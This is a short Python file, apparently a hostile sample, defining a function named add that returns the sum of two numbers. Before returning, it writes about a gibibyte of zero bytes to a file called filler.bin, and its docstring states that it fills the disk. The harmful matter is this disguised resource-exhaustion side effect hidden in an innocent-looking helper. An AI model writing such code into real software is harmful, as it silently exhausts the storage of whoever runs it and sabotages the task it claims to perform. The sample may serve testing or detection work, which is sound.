"""Fills the disk with one huge file before answering."""


def add(a, b):
    with open("filler.bin", "wb") as handle:
        for _ in range(1024):
            handle.write(b"\0" * 1024 * 1024)
    return a + b
